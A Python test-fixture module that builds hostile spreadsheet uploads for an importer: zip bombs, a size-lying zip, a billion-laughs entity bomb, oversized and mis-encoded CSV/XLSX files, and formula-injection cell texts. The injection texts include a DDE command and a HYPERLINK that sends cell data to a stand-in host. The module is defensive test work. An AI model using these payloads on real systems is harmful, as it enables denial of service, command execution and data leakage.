"""Spreadsheet files an importer must survive: the largest allowed imports, zip bombs, too many
rows or zip members, broken zips, NUL bytes, one gigantic cell, encoding mix-ups, an XML entity
bomb; and the hostile cell texts (formula injection) that exports must neutralise.

Plain Python, no pytest: the import tests use it, and so will a reliability command. Every
generator is deterministic and returns bytes; nothing touches the disk or the database.
"""

from __future__ import annotations

import datetime as dt
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from functools import cache

from openpyxl import Workbook

from models.ids import resident_id_check_char

# Cell texts that a spreadsheet would run as formulas (OWASP "CSV injection"), plus their
# tab / CR variants. Every one is a syntactically valid value for a name, team, company, bank,
# reason or comment field.
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://x/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)

BANK_HEADER = (
    "姓名", "身份证号", "银行卡号", "开户银行", "应发金额", "实发金额", "出勤天数",
    "工资所属期", "发放日期", "发放状态",
)  # fmt: skip
ROSTER_HEADER = ("姓名", "身份证号", "手机号", "银行卡号", "开户银行", "工种")


@dataclass(frozen=True, slots=True)
class HostileFile:
    key: str  # stable short name, e.g. "zip_bomb"
    filename: str  # as uploaded
    data: bytes
    what: str  # one line, zh / en


def id_number(n: int, born: dt.date = dt.date(1980, 1, 1)) -> str:
    """A valid 18-character resident ID, distinct for n < 500 * 20,000."""
    day = born + dt.timedelta(days=n // 500)
    first17 = f"110101{day:%Y%m%d}{(n % 500) * 2 + 1:03d}"
    return first17 + resident_id_check_char(first17)


def bank_card(n: int) -> str:
    """A Luhn-valid 19-digit card number, distinct per n."""
    body = f"622202{n:012d}"
    total = 0
    for i, c in enumerate(reversed(body)):
        d = int(c)
        if i % 2 == 0:  # these become the odd positions once the check digit is appended
            d = d * 2 - 9 if d > 4 else d * 2
        total += d
    return body + str((10 - total % 10) % 10)


def bank_rows(count: int, *, period: str = "2026-10") -> list[list[str]]:
    return [
        [f"工人{n}", id_number(n), bank_card(n), "示例银行", "", "350.00", "1", period,
         "2026-11-10", "成功"]
        for n in range(count)
    ]  # fmt: skip


def roster_rows(count: int) -> list[list[str]]:
    return [
        [f"工人{n}", id_number(n), "", bank_card(n), "示例银行", "钢筋工"] for n in range(count)
    ]


def csv_bytes(
    header: Sequence[str], rows: Iterable[Sequence[str]], encoding: str = "utf-8-sig"
) -> bytes:
    lines = [",".join(header), *(",".join(r) for r in rows)]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Sheet1")
    ws.append(list(header))
    for r in rows:
        ws.append(list(r))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _inline_row(values: Sequence[str]) -> bytes:
    return (
        b"<row>"
        + b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % v.encode() for v in values)
        + b"</row>"
    )


def fast_xlsx(header: Sequence[str], rows: Iterable[Sequence[str]]) -> bytes:
    """A workbook of inline-string rows written straight as XML: 100,000 rows in about a second
    where openpyxl takes ten (for files too big to be imported anyway)."""
    xml = b"".join(
        [
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b"<sheetData>",
            _inline_row(header),
            *(_inline_row(r) for r in rows),
            b"</sheetData></worksheet>",
        ]
    )
    return _replace_member(xlsx_bytes(header, []), "xl/worksheets/sheet1.xml", xml)


def bank_csv(rows: int) -> bytes:
    return csv_bytes(BANK_HEADER, bank_rows(rows))


def bank_xlsx(rows: int) -> bytes:
    return xlsx_bytes(BANK_HEADER, bank_rows(rows))


def roster_csv(rows: int) -> bytes:
    return csv_bytes(ROSTER_HEADER, roster_rows(rows))


def roster_xlsx(rows: int) -> bytes:
    return xlsx_bytes(ROSTER_HEADER, roster_rows(rows))


# --- broken and malicious zips -----------------------------------------------------------------


def _replace_member(xlsx: bytes, name: str, payload: bytes) -> bytes:
    """The workbook with one member's content swapped."""
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, payload if info.filename == name else src.read(info.filename))
    src.close()
    return out.getvalue()


def _sheet_xml(rows_xml: bytes, repeat: int) -> Iterable[bytes]:
    yield (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData>"
    )
    for _ in range(repeat):
        yield rows_xml
    yield b"</sheetData></worksheet>"


@cache
def zip_bomb(uncompressed_mb: int = 180) -> bytes:
    """A real workbook whose sheet inflates to `uncompressed_mb` MB of identical rows, about
    330 to 1: the default is about 560 KB on disk, the size of the issue's example."""
    base = bank_xlsx(1)
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    chunk = row * (1024 * 1024 // len(row) + 1)
    chunk = chunk[: len(chunk) - len(chunk) % len(row)]
    repeat = uncompressed_mb * 1024 * 1024 // len(chunk)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc, size, parts = 0, 0, []
    for piece in _sheet_xml(chunk, repeat):
        crc = zlib.crc32(piece, crc)
        size += len(piece)
        parts.append(comp.compress(piece))
    parts.append(comp.flush())
    raw = b"".join(parts)
    return _with_raw_member(base, "xl/worksheets/sheet1.xml", raw, crc, size)


def _with_raw_member(xlsx: bytes, name: str, raw: bytes, crc: int, size: int) -> bytes:
    """Write `raw` (an already deflated stream) as member `name`: zipfile has no public way to
    add precompressed data, so the local header and central directory are written by hand."""
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    central = []
    for info in src.infolist():
        if info.filename == name:
            data, c, n = raw, crc, size
        else:
            plain = src.read(info.filename)
            deflate = zlib.compressobj(6, zlib.DEFLATED, -15)
            data, c, n = deflate.compress(plain) + deflate.flush(), zlib.crc32(plain), len(plain)
        fname = info.filename.encode()
        offset = out.tell()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, c, len(data), n, len(fname), 0
            )
        )
        out.write(fname)
        out.write(data)
        central.append(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, c, len(data), n,
                        len(fname), 0, 0, 0, 0, 0, offset) + fname
        )  # fmt: skip
    src.close()
    start = out.tell()
    for entry in central:
        out.write(entry)
    end = out.tell()
    out.write(
        struct.pack(
            "<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), end - start, start, 0
        )
    )
    return out.getvalue()


def lying_sizes() -> bytes:
    """A bomb whose zip directory declares its sheet as 1 KB, with the CRC of that first KB:
    the directory check passes and so would the CRC, so the reader itself must inflate no
    further than the declared size (zipfile's read() of a whole part inflates all of it)."""
    bomb = zipfile.ZipFile(io.BytesIO(zip_bomb()))
    info = bomb.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode())
    raw = zip_bomb()[start : start + info.compress_size]
    head = zlib.decompressobj(-15).decompress(raw, 1024)
    return _with_raw_member(bank_xlsx(1), info.filename, raw, zlib.crc32(head), 1024)


def many_members(count: int = 2_000) -> bytes:
    """A valid workbook padded with `count` tiny extra zip members."""
    base = bank_xlsx(1)
    src = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        for i in range(count):
            dst.writestr(f"xl/media/pad{i}.bin", b"")
    src.close()
    return out.getvalue()


def entity_bomb() -> bytes:
    """Billion laughs in the sheet: a parser that expands entities builds 10^9 bytes of text."""
    lol = b'<!ENTITY lol0 "lollollollollollollollollollol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 9)
    )
    head = b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % h.encode() for h in BANK_HEADER)
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE worksheet [' + lol + b"]>"
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData><row>" + head + b'</row><row><c t="inlineStr"><is><t>&lol8;</t></is></c>'
        b"</row></sheetData></worksheet>"
    )
    return _replace_member(bank_xlsx(0), "xl/worksheets/sheet1.xml", xml)


def wide_row(cells: int = 150_000) -> bytes:
    """One row of `cells` distinct texts: compresses like real data (no ratio alarm) but would
    be parsed whole before any row cap applies."""
    rnd = random.Random(0)
    head = b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % h.encode() for h in BANK_HEADER)
    wide = b"".join(
        b'<c t="inlineStr"><is><t>%x</t></is></c>' % rnd.getrandbits(64) for _ in range(cells)
    )
    xml = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData><row>" + head + b"</row><row>" + wide + b"</row></sheetData></worksheet>"
    )
    return _replace_member(bank_xlsx(0), "xl/worksheets/sheet1.xml", xml)


def hostile_files(*, max_rows: int, max_bytes: int) -> list[HostileFile]:
    """Every file an import endpoint must refuse quickly (and write nothing): sized against the
    caps in force (`max_rows` data rows, `max_bytes` upload bytes)."""
    good = bank_xlsx(3)
    header = ",".join(BANK_HEADER)
    return [
        HostileFile(
            "zip_bomb", "bomb.xlsx", zip_bomb(), "解压后 180 MB 的炸弹 / zip bomb, 180 MB inflated"
        ),
        HostileFile(
            "rows_xlsx",
            "rows.xlsx",
            fast_xlsx(BANK_HEADER, bank_rows(5 * max_rows)),
            "五倍行数上限的 XLSX / XLSX of five times the row cap",
        ),
        HostileFile(
            "rows_csv",
            "rows.csv",
            bank_csv(3 * max_rows),
            "三倍行数上限的 CSV / CSV of three times the row cap",
        ),
        HostileFile(
            "lying_sizes",
            "lying.xlsx",
            lying_sizes(),
            "目录谎报大小的压缩炸弹 / zip bomb whose directory lies about sizes",
        ),
        HostileFile(
            "members",
            "members.xlsx",
            many_members(),
            "两千个压缩部件 / 2,000 zip parts",
        ),
        HostileFile(
            "truncated",
            "truncated.xlsx",
            good[: len(good) // 2],
            "截断的 XLSX / truncated XLSX",
        ),
        HostileFile(
            "not_zip",
            "fake.xlsx",
            b"this is not a workbook\r\n" * 100,
            "扩展名为 .xlsx 的文本 / text named .xlsx",
        ),
        HostileFile(
            "nul_csv",
            "nul.csv",
            (header + "\r\n" + "张三\x00,1\x00" * 1000 + "\r\n").encode("utf-8"),
            "含 NUL 字节的 CSV / CSV with NUL bytes",
        ),
        HostileFile(
            "giant_cell_csv",
            "giant.csv",
            (header + '\r\n"' + "长" * (max_bytes // 4) + '"\r\n').encode("utf-8"),
            "单个超大单元格的 CSV / CSV with one gigantic cell",
        ),
        HostileFile(
            "giant_cell_xlsx",
            "giant.xlsx",
            xlsx_bytes(BANK_HEADER, [["长" * 32_000] * 10] * 3),
            "单元格超长的 XLSX / XLSX with huge cells",
        ),
        HostileFile(
            "gbk_as_utf8",
            "gbk.csv",
            (header + "\r\n").encode("utf-8") + "张三,错误编码".encode("gbk") + b"\xff\xfe\r\n",
            "UTF-8 与 GBK 混合 / UTF-8 and GBK mixed",
        ),
        HostileFile(
            "gbk_rows",
            "mixed.csv",
            (header + "\r\n").encode("utf-8")
            + "\r\n".join(",".join(r) for r in bank_rows(3)).encode("gbk"),
            "UTF-8 表头、GBK 数据行 / UTF-8 header over GBK rows",
        ),
        HostileFile(
            "over_bytes",
            "big.csv",
            b"x" * (max_bytes + 1),
            "超出上传大小 / over the upload size",
        ),
        HostileFile("entity_bomb", "laughs.xlsx", entity_bomb(), "XML 实体炸弹 / XML entity bomb"),
        HostileFile(
            "wide_row", "wide.xlsx", wide_row(), "一行十五万个单元格 / one row of 150,000 cells"
        ),
    ]
